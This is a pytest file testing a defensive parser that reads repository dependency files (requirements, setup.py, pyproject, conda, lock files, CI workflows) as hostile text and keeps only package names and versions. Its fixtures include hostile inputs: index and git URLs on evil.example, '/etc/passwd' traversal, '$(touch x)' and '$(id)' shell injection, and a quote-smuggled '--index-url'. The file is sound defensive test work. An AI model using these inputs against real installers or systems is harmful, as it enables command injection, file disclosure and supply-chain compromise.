"""What a repository declares is read as hostile text: names and versions, nothing else."""

import json
import os
from pathlib import Path

import pytest

from agents.execution.environments.declared import read_declared


def repository(folder: Path, **files: str) -> Path:
    for name, text in files.items():
        (folder / name.replace("__", ".")).write_text(text)
    return folder


def test_names_with_versions_are_taken_once(tmp_path: Path) -> None:
    text = (
        "# all\nnumpy==1.18.2  # why\nPillow>=7 ; python_version >= '3'\nnumpy\ntorch[x]~=1.5 \\\n  --hash=sha256:00\n"
    )
    said = read_declared(repository(tmp_path, requirements__txt=text))
    assert said.requirements == ("numpy==1.18.2", 'pillow>=7; python_version >= "3"', "torch[x]~=1.5")
    assert said.pinned == ("numpy==1.18.2",)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.example/simple",
        "-i http://evil.example/simple",
        "--extra-index-url=http://evil.example/",
        "--find-links http://evil.example/",
        "-e .",
        "-e git+https://evil.example/x.git#egg=x",
        "git+https://evil.example/x.git",
        "https://evil.example/x-1.0-py3-none-any.whl",
        "file:///etc/passwd",
        "./local.whl",
        "../../outside",
        "/etc/passwd",
        "-r ../../../../etc/passwd",
        "-r /etc/passwd",
        "--pre",
        "--trusted-host evil.example",
        "$(touch x)",
        "numpy==1.0' --index-url http://evil.example",
        "a" * 5000,
        "\x1b[31m",
    ],
)
def test_everything_else_is_left_out(tmp_path: Path, line: str) -> None:
    said = read_declared(repository(tmp_path, requirements__txt=f"{line}\nscipy\n"))
    assert said.requirements == ("scipy",)


def test_an_address_behind_a_name_is_taken_away(tmp_path: Path) -> None:
    said = read_declared(repository(tmp_path, requirements__txt="numpy @ https://evil.example/numpy.whl\n"))
    assert said.requirements == ("numpy",)


def test_other_files_of_the_repository_are_followed_and_circles_end(tmp_path: Path) -> None:
    repository(tmp_path, requirements__txt="-r more.txt\nnumpy\n", more__txt="-r requirements.txt\nscipy\n")
    assert set(read_declared(tmp_path).requirements) == {"numpy", "scipy"}


def test_links_out_of_the_repository_pipes_and_huge_files_are_harmless(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("torch\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").symlink_to(tmp_path / "secret")
    os.mkfifo(repo / "setup.cfg")
    (repo / "pyproject.toml").symlink_to("/dev/zero")
    (repo / "requirements-extra.txt").write_text("".join(f"package{n}\n" for n in range(100_000)))
    said = read_declared(repo)
    assert "torch" not in said.requirements
    assert len(said.requirements) <= 300


def test_setup_py_is_read_and_never_run(tmp_path: Path) -> None:
    code = f"""
import os
from setuptools import setup
open({str(tmp_path / "ran")!r}, "w").close()
NEEDS = ["numpy>=1.15", "scipy"]
setup(name="mine", install_requires=NEEDS + ["h5py"], python_requires=">=3.6",
      extras_require={{"tests": ["pytest"], "docs": ["sphinx"]}}, version=os.environ["X"])
"""
    said = read_declared(repository(tmp_path, setup__py=code))
    assert (said.name, said.python) == ("mine", ">=3.6")
    assert said.requirements == ("numpy>=1.15", "scipy", "h5py")
    assert said.testing == ("pytest",)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("name", ["setup.py", "pyproject.toml", "setup.cfg", "environment.yml", "requirements.txt"])
@pytest.mark.parametrize(
    "text", ["(" * 50_000, "[" * 50_000, "\x00\xff", "a: &a [*a]", "x = " + "-" * 50_000 + "1", "{" * 9999, "]]]\n[[["]
)
def test_nonsense_is_read_as_nothing(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    assert read_declared(tmp_path).requirements == ()


def test_pyproject_in_both_styles(tmp_path: Path) -> None:
    standard = '[project]\nname = "p"\nrequires-python = ">=3.9"\ndependencies = ["jax>=0.4", "p"]\n'
    standard += '[project.optional-dependencies]\ntest = ["pytest>=8"]\n'
    standard += '[dependency-groups]\ndev = ["hypothesis", {}]\n'
    said = read_declared(repository(tmp_path, pyproject__toml=standard))
    assert (said.name, said.requirements, said.python) == ("p", ("jax>=0.4",), ">=3.9")
    assert said.testing == ("pytest>=8", "hypothesis")
    poetry = (
        '[tool.poetry]\nname = "q"\n[tool.poetry.dependencies]\npython = "^3.7"\ntorch = "1.2.0"\nnumpy = "^1.18"\n'
    )
    poetry += 'scipy = {version = "~1.4", optional = true}\nmine = {git = "https://evil.example/x"}\npandas = "*"\n'
    said = read_declared(repository(tmp_path, pyproject__toml=poetry))
    assert said.python == "<4,>=3.7"
    assert said.requirements == ("torch==1.2.0", "numpy<2,>=1.18", "scipy<1.5,>=1.4", "mine", "pandas")


def test_conda(tmp_path: Path) -> None:
    text = "name: x\ndependencies:\n- python=3.8\n- numpy=1.19=py38_0\n- pytorch>1.2\n- conda-forge::scipy\n"
    text += "- cudatoolkit=10\n- unknown_thing\n- pip:\n  - tqdm==4.45.0\n  - -r x.txt\n"
    said = read_declared(repository(tmp_path, environment__yml=text))
    assert said.python == "==3.8.*"
    assert said.requirements == ("numpy==1.19.*", "torch>1.2", "scipy", "tqdm==4.45.0")


@pytest.mark.parametrize(
    "name",
    ["../../out", "/tmp/out", "--index-url=http://x", "-r x", "git+https://x/y", "x @ http://y/x.whl", "a b", "a\nb"],  # noqa: S108
)
def test_what_is_no_name_is_never_the_name_of_the_project(tmp_path: Path, name: str) -> None:
    """It would name a folder of the cache, and be an argument of uv."""
    (tmp_path / "setup.py").write_text(f"from setuptools import setup\nsetup(name={name!r})\n")
    assert read_declared(tmp_path).name == ""
    (tmp_path / "setup.py").unlink()
    (tmp_path / "pyproject.toml").write_text(f"[project]\nname = {json.dumps(name)}\n")
    assert read_declared(tmp_path).name == ""


POETRY_LOCK = """\
# generated
[[package]]
name = "jax"
version = "0.5.3"
description = ""

[[package]]
name = "Some_Dependency"
version = "1.0"

[[package]]
name = "numpy"
version = "2.0.2"

[[package]]
name = "numpy"
version = "2.2.4"

[[package]]
name = "torch"
version = "2.1.0+cu118"
"""
PYPROJECT = """\
[project]
dependencies = ["jax>=0.5", "numpy>1", "torch[opt]", "pandas==1.0", "scipy>=9"]
"""


def test_a_lock_decides_the_versions_of_what_is_asked_for(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(PYPROJECT)
    (tmp_path / "poetry.lock").write_text(POETRY_LOCK)
    locked = {"default": {"pandas": {"version": "==2.0"}, "scipy": {"version": "==1.9"}, "x": 3}, "develop": []}
    (tmp_path / "Pipfile.lock").write_text(json.dumps(locked))
    said = read_declared(tmp_path)
    assert said.requirements == ("jax==0.5.3", "numpy>1", "torch[opt]==2.1.0", "pandas==1.0", "scipy>=9")
    assert said.locked == ("jax==0.5.3", "pandas==2.0", "scipy==1.9", "some-dependency==1.0", "torch==2.1.0")
    (tmp_path / "Pipfile.lock").write_text("[" * 100_000)
    assert read_declared(tmp_path).requirements == said.requirements


def test_what_ci_installs_is_for_the_tests(tmp_path: Path) -> None:
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / ".github/workflows/tests.yml").write_text(
        "steps:\n"
        "  - run: python -m pip install --upgrade pip pytest-mock 'h5py<4' && pip install -e .[test]\n"
        "  - run: |\n      pip install -r other.txt \\\n        pytest-cases  # not this\n      echo scipy\n"
        "  - run: pip install git+https://evil.example/x.git https://evil.example/y.whl ./local $(id) ; rm scipy\n"
    )
    (tmp_path / "tox.ini").write_text(
        "[testenv]\ndeps =\n    -r requirements.txt\n    py39: numpy==1.20\n    pytest-order\ncommands = pytest\n"
    )
    said = read_declared(tmp_path)
    assert said.requirements == ()
    assert said.testing == ("pip", "pytest-mock", "h5py<4", "pytest-cases", "numpy==1.20", "pytest-order")
